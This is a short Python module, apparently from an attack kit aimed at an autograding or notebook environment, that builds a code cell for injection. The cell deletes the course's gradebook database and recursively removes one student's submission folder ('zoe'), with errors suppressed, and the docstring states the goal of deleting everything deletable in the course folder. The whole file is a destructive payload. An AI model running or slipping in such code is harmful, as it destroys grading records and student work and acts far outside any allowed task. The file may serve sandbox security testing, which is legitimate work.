"""Delete the gradebook and everything else in the course's folder that can be deleted."""

from attack_kit import FIND

CELL = (
    FIND
    + """
import shutil
for path in find("gradebook.db"):
    path.unlink()
for path in find("submitted"):
    for folder in path.iterdir():
        if folder.name == "zoe":
            shutil.rmtree(folder, ignore_errors=True)
"""
)
